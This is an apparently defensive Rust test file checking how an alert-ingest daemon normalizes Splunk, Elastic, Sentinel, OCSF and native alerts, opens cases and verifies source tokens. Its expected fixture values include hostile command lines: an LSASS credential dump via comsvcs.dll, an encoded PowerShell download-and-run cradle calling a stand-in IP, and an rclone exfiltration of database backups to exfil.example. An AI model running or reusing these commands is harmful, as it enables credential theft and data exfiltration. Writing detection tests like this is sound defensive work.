//! Ingest over real HTTP: each of the five formats is accepted, normalized, stored verbatim in
//! the audit log, opens a case with the matching playbook's action requests, and per-source
//! tokens are accepted from the `Authorization: Bearer` header and Splunk's `?token=` parameter.

use serde_json::{Value, json};
use sha2::Digest;

use crate::support::{self, TestDaemon};

/// What one fixture must normalize to, and what its case must hold.
struct Want {
    format: &'static str,
    file: &'static str,
    source_alert_id: &'static str,
    rule_id: &'static str,
    rule_name: &'static str,
    severity: &'static str,
    confidence: u64,
    techniques: &'static [&'static str],
    /// `kind:value`, in the stored (canonical) order.
    entities: &'static [&'static str],
    attributes: &'static [(&'static str, &'static str)],
    playbook: &'static str,
    case_state: &'static str,
    /// (kind, target id) of every proposed action; `CASE` stands for the case id.
    actions: &'static [(&'static str, &'static str)],
}

const CASE: &str = "CASE";

fn entity_keys(v: &Value) -> Vec<String> {
    v["entities"]
        .as_array()
        .unwrap_or_else(|| panic!("no entities in {v}"))
        .iter()
        .map(|e| {
            format!(
                "{}:{}",
                e["kind"].as_str().unwrap(),
                e["value"].as_str().unwrap()
            )
        })
        .collect()
}

fn strs(v: &Value) -> Vec<String> {
    v.as_array()
        .unwrap_or_else(|| panic!("not an array: {v}"))
        .iter()
        .map(|s| s.as_str().unwrap().to_string())
        .collect()
}

fn sha256_hex(b: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(b))
}

/// The `alert_received` audit records of one alert.
fn received_records(d: &TestDaemon, alert_id: &str) -> Vec<cordon::store::AuditRecord> {
    d.audit()
        .into_iter()
        .filter(|r| r.body.kind == "alert_received" && r.body.alert_id.as_deref() == Some(alert_id))
        .collect()
}

/// Posts the fixture and checks the ack, the stored alert, the case and the audit record.
async fn check_format(w: &Want) {
    let d = support::start().await;
    let path = if w.format == "cordon" {
        "/v1/alerts".to_string()
    } else {
        format!("/v1/alerts/{}", w.format)
    };
    let bytes = support::fixture(w.file);
    let (status, ack) = d.post(&path, bytes.clone()).await;
    assert_eq!(status, 202, "{}: {ack}", w.format);
    let obj = ack
        .as_object()
        .unwrap_or_else(|| panic!("ack is not an object: {ack}"));
    assert_eq!(
        obj.len(),
        3,
        "ack has exactly alert_id, case_id, duplicate: {ack}"
    );
    assert_eq!(ack["duplicate"], json!(false), "{ack}");
    let alert_id = ack["alert_id"].as_str().expect("alert_id").to_string();
    let case_id = ack["case_id"].as_str().expect("case_id").to_string();
    assert!(
        !alert_id.is_empty() && !case_id.is_empty() && alert_id != case_id,
        "{ack}"
    );

    // The normalized alert.
    let (s, alert) = d.get(&format!("/v1/alerts/{alert_id}")).await;
    assert_eq!(s, 200, "{alert}");
    assert_eq!(alert["alert_id"], json!(alert_id));
    assert_eq!(alert["case_id"], json!(case_id));
    assert_eq!(alert["source"], json!(w.format));
    assert_eq!(alert["source_alert_id"], json!(w.source_alert_id));
    assert_eq!(alert["rule"]["id"], json!(w.rule_id), "{}", w.format);
    assert_eq!(alert["rule"]["name"], json!(w.rule_name), "{}", w.format);
    assert_eq!(alert["severity"], json!(w.severity), "{}", w.format);
    assert_eq!(alert["confidence"], json!(w.confidence), "{}", w.format);
    assert_eq!(strs(&alert["techniques"]), w.techniques, "{}", w.format);
    assert_eq!(entity_keys(&alert), w.entities, "{}", w.format);
    for (k, v) in w.attributes {
        assert_eq!(
            alert["attributes"][k],
            json!(v),
            "{}: attribute {k}",
            w.format
        );
    }
    assert_eq!(
        alert["raw_sha256"],
        json!(sha256_hex(&bytes)),
        "{}: raw_sha256 is the hash of the posted bytes",
        w.format
    );
    assert!(
        alert.get("duplicate_of").is_none() && alert.get("suppressed_by").is_none(),
        "{alert}"
    );

    // The case and the matching playbook's action requests.
    let case = d.case(&case_id).await;
    assert_eq!(case["case"]["case_id"], json!(case_id));
    assert_eq!(
        case["case"]["state"],
        json!(w.case_state),
        "{}: {case}",
        w.format
    );
    assert_eq!(case["case"]["alert_ids"], json!([alert_id]));
    assert_eq!(case["case"]["rule_id"], json!(w.rule_id));
    assert_eq!(case["case"]["severity"], json!(w.severity));
    assert_eq!(
        entity_keys(&case["case"]),
        w.entities,
        "{}: case entities",
        w.format
    );
    let mut got: Vec<(String, String)> = support::actions(&case)
        .into_iter()
        .map(|(k, t, _, _)| (k, t))
        .collect();
    got.sort();
    let mut want: Vec<(String, String)> = w
        .actions
        .iter()
        .map(|(k, t)| {
            (
                k.to_string(),
                if *t == CASE {
                    case_id.clone()
                } else {
                    t.to_string()
                },
            )
        })
        .collect();
    want.sort();
    assert_eq!(got, want, "{}: proposed actions", w.format);
    for a in case["actions"].as_array().unwrap() {
        assert_eq!(a["playbook"], json!(w.playbook), "{a}");
        assert_eq!(a["case_id"], json!(case_id), "{a}");
        assert_eq!(a["alert_id"], json!(alert_id), "{a}");
        assert!(
            a["tier"].is_string() && a["decision_seq"].is_u64(),
            "every action is decided: {a}"
        );
    }

    // The payload is kept verbatim in the audit log.
    let recs = received_records(&d, &alert_id);
    assert_eq!(recs.len(), 1, "{}: one alert_received record", w.format);
    let r = &recs[0];
    assert_eq!(r.body.case_id.as_deref(), Some(case_id.as_str()));
    assert_eq!(r.body.data["source"], json!(w.format));
    assert_eq!(
        r.body.data["raw"]
            .as_str()
            .expect("raw is a string")
            .as_bytes(),
        bytes.as_slice(),
        "{}: raw differs from the posted bytes",
        w.format
    );
    assert_eq!(
        r.body.data["alert"]["source_alert_id"],
        json!(w.source_alert_id)
    );
    assert_eq!(d.stop().await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cordon_format_is_ingested() {
    check_format(&Want {
        format: "cordon",
        file: "cordon.json",
        source_alert_id: "edr-7f3a9c21-4b8e-4d2f-a1c6-90e5d7b3f812",
        rule_id: "0f2c6b1e-8d4a-4c3b-9e7f-5a1d2c3b4e6f",
        rule_name: "LSASS Memory Dump via Comsvcs DLL",
        severity: "critical",
        confidence: 90,
        techniques: &["T1003.001", "T1218.011"],
        entities: &[
            "host:fin-lt-013.corp.example",
            "user:erin",
            "ip:10.20.44.13",
            "domain:files.evil.example",
            "url:https://files.evil.example/upload/lsass.dmp",
            "file_hash:4cdbc4ad4b558745a694a0f3f0d55209314e1edfdbe96a3f14d266831728a941",
        ],
        attributes: &[
            ("process.command_line", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 684 C:\Users\Public\lsass.dmp full"),
            ("process.parent.name", "cmd.exe"),
        ],
        playbook: "credential_abuse",
        case_state: "recommended",
        actions: &[("enrich", CASE), ("create_ticket", CASE), ("revoke_sessions", "erin")],
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn splunk_format_is_ingested() {
    check_format(&Want {
        format: "splunk",
        file: "splunk.json",
        source_alert_id: "scheduler__admin_U0EtQWNjZXNzUHJvdGVjdGlvbg__RMD5c8e2f4a1b3d5e7f9_at_1718097300_4821",
        rule_id: "b2f6e0d8-5c3a-4e7b-9f1d-0a2c4e6b8d01",
        rule_name: "Access - Password Spray Followed By Impossible Travel - Rule",
        severity: "high",
        confidence: 80,
        techniques: &["T1078.004", "T1110.003"],
        entities: &["user:bob@example.com", "ip:198.51.100.23"],
        attributes: &[],
        playbook: "credential_abuse",
        case_state: "recommended",
        actions: &[("enrich", CASE), ("create_ticket", CASE), ("revoke_sessions", "bob@example.com"), ("block_ioc", "ip:198.51.100.23")],
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn elastic_format_is_ingested() {
    check_format(&Want {
        format: "elastic",
        file: "elastic.json",
        source_alert_id: "6f3e2b1c9d8a7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f",
        rule_id: "b7f1c2d3-4e5a-46b7-8c9d-0e1f2a3b4c5d",
        rule_name: "Suspicious PowerShell EncodedCommand from Office",
        severity: "high",
        confidence: 73,
        techniques: &["T1059", "T1059.001", "T1566", "T1566.001"],
        entities: &[
            "host:ws-042",
            "user:alice",
            "ip:10.20.30.42",
            "ip:203.0.113.77",
            "file_hash:0c7202275ade61aaec5b13be2ce37e640352ad0346e34322d1086980fa6c975c",
            "file_hash:86f51b17077aee2d7885528286a00aa632489cfee188cc99fbec881feb06dca7",
        ],
        attributes: &[
            (
                "process.command_line",
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcANwAvAGEAJwApAA=="#,
            ),
            ("process.name", "powershell.exe"),
            ("process.parent.name", "WINWORD.EXE"),
        ],
        playbook: "malware_execution",
        case_state: "recommended",
        actions: &[
            ("enrich", CASE),
            ("summarize_case", CASE),
            ("create_ticket", CASE),
            ("isolate_host", "ws-042"),
            ("block_ioc", "file_hash:0c7202275ade61aaec5b13be2ce37e640352ad0346e34322d1086980fa6c975c"),
            ("block_ioc", "file_hash:86f51b17077aee2d7885528286a00aa632489cfee188cc99fbec881feb06dca7"),
            ("block_ioc", "ip:203.0.113.77"),
        ],
    })
    .await;
}

const PROD_VM: &str = "/subscriptions/3f2b8c1d-6e4a-4b7f-9c2d-8e1f0a3b5c7d/resourceGroups/rg-prod-web/providers/Microsoft.Compute/virtualMachines/prod-web-01";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sentinel_format_is_ingested() {
    check_format(&Want {
        format: "sentinel",
        file: "sentinel.json",
        source_alert_id: "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d",
        rule_id: "8f3c2b1a-7d6e-4f5a-9b8c-1d2e3f4a5b6c",
        rule_name: "Suspicious cloud admin activity: run command on production VM by carol@example.com",
        severity: "high",
        confidence: 50,
        techniques: &["T1078.004", "T1651"],
        entities: &[
            "user:carol@example.com",
            "ip:203.0.113.150",
            "cloud_resource:/subscriptions/3f2b8c1d-6e4a-4b7f-9c2d-8e1f0a3b5c7d/resourceGroups/rg-prod-web/providers/Microsoft.Compute/virtualMachines/prod-web-01",
        ],
        attributes: &[],
        playbook: "cloud_admin",
        case_state: "recommended",
        actions: &[("enrich", CASE), ("create_ticket", CASE), ("contain_cloud_resource", PROD_VM), ("revoke_sessions", "carol@example.com")],
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ocsf_format_is_ingested() {
    check_format(&Want {
        format: "ocsf",
        file: "ocsf.json",
        source_alert_id: "ndr-finding-20240611-000731",
        rule_id: "ndr-exfil-volume-rare-domain",
        rule_name: "Outbound Volume Anomaly to Rare Domain",
        severity: "high",
        confidence: 85,
        techniques: &["T1048"],
        entities: &[
            "host:db-07",
            "user:dave",
            "ip:10.40.1.7",
            "ip:192.0.2.10",
            "domain:exfil.example",
            "file_hash:42783686f2e08268cf789339d7b3e581472e374f5a4a7f44626589a60997fb86",
            "cloud_resource:i-0a1b2c3d4e5f60718",
        ],
        attributes: &[
            ("process.command_line", "rclone copy /var/backups/postgres remote:drop --sftp-host exfil.example --sftp-user u8812 --transfers 8"),
            ("process.name", "rclone"),
            ("process.parent.name", "bash"),
        ],
        playbook: "data_exfiltration",
        case_state: "recommended",
        actions: &[
            ("enrich", CASE),
            ("create_ticket", CASE),
            ("block_ioc", "domain:exfil.example"),
            ("block_ioc", "ip:192.0.2.10"),
            ("isolate_host", "db-07"),
        ],
    })
    .await;
}

/// The raw payload is kept byte for byte: odd whitespace, key order, escapes and non-ASCII text
/// are not re-serialized.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn raw_payload_is_kept_verbatim() {
    let d = support::start().await;
    let body = "  {\"severity\":\t\"LOW\" ,\r\n \"title\": \"caf\\u00e9 \u{00e9}t\u{00e9} \\\"quoted\\\" \\/slash\",\n\
                \"rule\" : {\"name\": \"Verbatim rule\", \"id\": \"verbatim-1\"},\n\
                \"source_alert_id\": \"v-1\", \"confidence\": 10 ,\"entities\": [{\"value\": \"WS-900.\", \"kind\": \"host\"}]}\n\n"
        .to_string();
    let (status, ack) = d.post("/v1/alerts", body.clone()).await;
    assert_eq!(status, 202, "{ack}");
    let alert_id = ack["alert_id"].as_str().unwrap();
    let recs = received_records(&d, alert_id);
    assert_eq!(recs.len(), 1);
    assert_eq!(
        recs[0].body.data["raw"],
        json!(body),
        "raw is the exact posted text"
    );
    let (_, alert) = d.get(&format!("/v1/alerts/{alert_id}")).await;
    assert_eq!(
        alert["title"],
        json!("caf\u{e9} \u{e9}t\u{e9} \"quoted\" /slash")
    );
    assert_eq!(alert["severity"], json!("low"));
    assert_eq!(alert["confidence"], json!(10));
    assert_eq!(entity_keys(&alert), ["host:ws-900"]);
    assert_eq!(alert["raw_sha256"], json!(sha256_hex(body.as_bytes())));
    assert_eq!(d.stop().await, 0);
}

const SPLUNK_TOKEN: &str = "splunk-hec-7c1e0d2b";

async fn with_splunk_token() -> TestDaemon {
    support::start_with(|cfg, _| {
        cfg.ingest
            .tokens
            .insert("splunk".into(), crate::support::sha_ref(SPLUNK_TOKEN));
    })
    .await
}

fn splunk_with_sid(sid: &str) -> Vec<u8> {
    let mut v: Value = serde_json::from_slice(&support::fixture("splunk.json")).unwrap();
    v["sid"] = json!(sid);
    serde_json::to_vec(&v).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn splunk_token_in_query_parameter() {
    let d = with_splunk_token().await;
    let (status, ack) = d
        .post(
            &format!("/v1/alerts/splunk?token={SPLUNK_TOKEN}"),
            support::fixture("splunk.json"),
        )
        .await;
    assert_eq!(status, 202, "{ack}");
    assert_eq!(ack["duplicate"], json!(false));
    let (s, alert) = d
        .get(&format!("/v1/alerts/{}", ack["alert_id"].as_str().unwrap()))
        .await;
    assert_eq!(s, 200);
    assert_eq!(alert["source"], json!("splunk"));
    // The token is checked, not merely present.
    let (status, err) = d
        .post(
            "/v1/alerts/splunk?token=splunk-hec-7c1e0d2c",
            splunk_with_sid("sid-2"),
        )
        .await;
    assert_eq!(
        (status, err["code"].clone()),
        (401, json!("unauthorized")),
        "{err}"
    );
    assert_eq!(d.stop().await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn splunk_token_as_bearer_header() {
    let d = with_splunk_token().await;
    let (status, ack) = d
        .post_with("/v1/alerts/splunk", splunk_with_sid("sid-bearer-1"), |r| {
            r.bearer_auth(SPLUNK_TOKEN)
        })
        .await;
    assert_eq!(status, 202, "{ack}");
    assert_eq!(ack["duplicate"], json!(false));
    let (_, alert) = d
        .get(&format!("/v1/alerts/{}", ack["alert_id"].as_str().unwrap()))
        .await;
    assert_eq!(alert["source_alert_id"], json!("sid-bearer-1"));
    let (status, err) = d
        .post_with("/v1/alerts/splunk", splunk_with_sid("sid-bearer-2"), |r| {
            r.bearer_auth("nope")
        })
        .await;
    assert_eq!(
        (status, err["code"].clone()),
        (401, json!("unauthorized")),
        "{err}"
    );
    // A token for splunk does not lock the other sources (they stay loopback-only).
    let ack = d.ingest_fixture("elastic", "elastic.json").await;
    assert_eq!(ack["duplicate"], json!(false));
    assert_eq!(d.stop().await, 0);
}
